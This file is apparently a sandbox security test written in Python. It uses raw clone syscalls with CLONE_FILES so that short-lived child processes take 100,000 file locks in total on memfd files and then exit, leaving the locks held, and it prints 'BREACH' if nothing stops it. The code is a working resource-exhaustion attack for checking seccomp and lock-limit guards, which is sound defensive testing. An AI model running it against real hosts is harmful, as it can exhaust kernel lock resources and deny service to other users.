# attack: takes locks in processes that share their open files with another (CLONE_FILES), and end: the locks stay
# guards: seccomp/namespaces, keeper/locks
# breaks: seccomp/namespaces
# expect: SV syscall:clone
import ctypes
import fcntl
import os
import platform
import signal
import struct
import time

CLONE_FILES, SIGCHLD = 0x400, 17
CLONE = 220 if platform.machine() == "aarch64" else 56
# Those who live at a time have few locks.
KEEPERS, CHILDREN, FILES, LOCKS = 4, 50, 5, 100

libc = ctypes.CDLL(None, use_errno=True)
zero = ctypes.c_long(0)
request = [struct.pack("hhqqi4x", fcntl.F_WRLCK, os.SEEK_SET, 2 * number, 1, 0) for number in range(LOCKS)]


def keep_locks_of_the_dead():
    for _ in range(CHILDREN):
        child = libc.syscall(ctypes.c_long(CLONE), ctypes.c_long(CLONE_FILES | SIGCHLD), zero, zero, zero, zero)
        if child == 0:
            for _ in range(FILES):
                file = os.memfd_create("locks")
                for lock in request:
                    fcntl.fcntl(file, fcntl.F_SETLK, lock)
            os._exit(0)
        os.waitpid(child, 0)


ready, tell = os.pipe()
for _ in range(KEEPERS):
    if os.fork() == 0:
        keep_locks_of_the_dead()
        os.write(tell, b"x")
        signal.pause()
    os.read(ready, 1)
# Long enough to be seen.
time.sleep(1)
print("BREACH", KEEPERS * CHILDREN * FILES * LOCKS, "locks")
